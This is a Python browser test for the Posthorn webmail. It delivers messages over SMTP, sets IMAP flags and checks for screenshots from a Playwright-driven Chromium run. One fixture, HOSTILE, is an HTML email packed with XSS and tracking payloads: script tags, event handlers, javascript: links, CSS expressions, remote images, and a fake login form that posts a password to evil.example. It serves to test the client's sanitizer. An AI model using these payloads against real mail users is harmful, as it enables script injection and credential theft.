"""The webmail in a real browser: tests/browser/webmail.mjs drives headless
Chromium (Debian's) with Playwright against a `posthorn serve` started
here. The script asks this driver, line by line, for what needs a real
mail client (an SMTP delivery, a flag set over IMAP) and saves screenshots
of the main screens under build/screenshots/."""
import imaplib
import os
import shutil
import smtplib
import subprocess
import time

import pytest

from conftest import DOMAIN, PASSWORD, client_tls_context

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", ".."))
BROWSER_DIR = os.path.join(ROOT, "tests", "browser")
SHOTS = os.environ.get("SCREENSHOTS", os.path.join(ROOT, "build", "screenshots"))
ALICE = "alice@" + DOMAIN

pytestmark = pytest.mark.slow  # not repeated in the sanitizer pass

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url(https://evil.example/bg.png)} @import url(https://evil.example/i.css);</style>
<script>alert('script tag ran')</script></head>
<body onload="alert('onload ran')"><h1>Hello reader</h1>
<p style="background-image:url('https://evil.example/p.png'); width: expression(alert('expr'))">CSS tricks</p>
<img src="cid:logo@example" alt="logo">
<img src="https://tracker.example/pixel.gif" alt="">
<img src="x" onerror="alert('onerror ran'); fetch('https://evil.example/onerror')">
<a href="javascript:alert('js link')">js link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>
<a href="https://example.org/page">a good link</a>
<svg onload="alert('svg ran')"><script>alert('svg script')</script><image href="https://evil.example/s.png"/></svg>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in again</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>
<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>
<table background="https://evil.example/t.png"><tr><td>table</td></tr></table>
</body></html>"""

PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


def hostile_message(subject):
    return (f"From: News <news@remote.test>\r\nTo: {ALICE}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n"
            f"--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{HOSTILE}\r\n"
            f"--rel\r\nContent-Type: image/png\r\nContent-ID: <logo@example>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            f"{PNG_B64}\r\n--rel--\r\n")


def deliver(srv, subject, body="", raw=None):
    data = raw or (f"From: Sender <sender@remote.test>\r\nTo: {ALICE}\r\nSubject: {subject}\r\n"
                   f"Message-ID: <{time.time()}@remote.test>\r\n\r\n{body}\r\n")
    with smtplib.SMTP("127.0.0.1", srv.ports["smtp"], timeout=20) as s:
        s.sendmail("sender@remote.test", [ALICE], data.encode())


def imap_uid(m, subject):
    m.select("INBOX")
    typ, data = m.uid("SEARCH", None, "SUBJECT", f'"{subject}"')
    assert typ == "OK" and data[0], (typ, data)
    return data[0].split()[-1].decode()


def test_webmail_in_chromium(make_server):
    node = shutil.which("node")
    if node is None or not os.path.exists("/usr/bin/chromium") or \
            not os.path.isdir(os.path.join(BROWSER_DIR, "node_modules", "playwright-core")):
        pytest.skip("needs node, /usr/bin/chromium and tests/browser/node_modules (make browser-deps)")
    srv = make_server("browser", extra_config="max_connections_per_ip 500\n")
    srv.add_user(ALICE)
    srv.start()
    deliver(srv, "Welcome to Posthorn", "This message was delivered over SMTP.\r\nEnjoy.")
    env = dict(os.environ, POSTHORN_URL=f"http://127.0.0.1:{srv.ports['http']}", POSTHORN_USER=ALICE,
               POSTHORN_PASSWORD=PASSWORD, SCREENSHOTS=SHOTS)
    proc = subprocess.Popen([node, os.path.join(BROWSER_DIR, "webmail.mjs")], cwd=BROWSER_DIR, env=env,
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            bufsize=1, start_new_session=True)
    transcript = []
    imap = None
    deadline = time.time() + 240
    try:
        for line in proc.stdout:
            line = line.rstrip("\n")
            transcript.append(line)
            if time.time() > deadline:
                raise AssertionError("the browser test took too long")
            if not line.startswith("ASK "):
                continue
            _, verb, arg = line.split(" ", 2)
            if verb == "deliver":
                subject, _, body = arg.partition("|")
                deliver(srv, subject, body)
            elif verb == "deliver-hostile":
                deliver(srv, arg, raw=hostile_message(arg))
            elif verb in ("imap-flag", "imap-seen"):
                if imap is None:
                    imap = imaplib.IMAP4_SSL("127.0.0.1", srv.ports["imaps"], ssl_context=client_tls_context(),
                                             timeout=20)
                    imap.login(ALICE, PASSWORD)
                uid = imap_uid(imap, arg)
                if verb == "imap-flag":
                    assert imap.uid("STORE", uid, "+FLAGS", r"(\Flagged)")[0] == "OK"
                else:
                    # The page marked it read when it opened it: IMAP sees \Seen.
                    for _ in range(100):
                        typ, data = imap.uid("FETCH", uid, "(FLAGS)")
                        if b"\\Seen" in data[0]:
                            break
                        time.sleep(0.05)
                    assert b"\\Seen" in data[0], data
            else:
                raise AssertionError(f"unknown request {line}")
            proc.stdin.write("OK\n")
            proc.stdin.flush()
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, 9)
            proc.wait()
        if imap is not None:
            try:
                imap.logout()
            except Exception:
                pass
    out = "\n".join(transcript)
    assert proc.returncode == 0 and "DONE" in transcript, out
    for name in ("01-login", "02-inbox", "03-reader", "04-compose", "06-html-message", "09-phone-list"):
        assert os.path.exists(os.path.join(SHOTS, name + ".png")), name
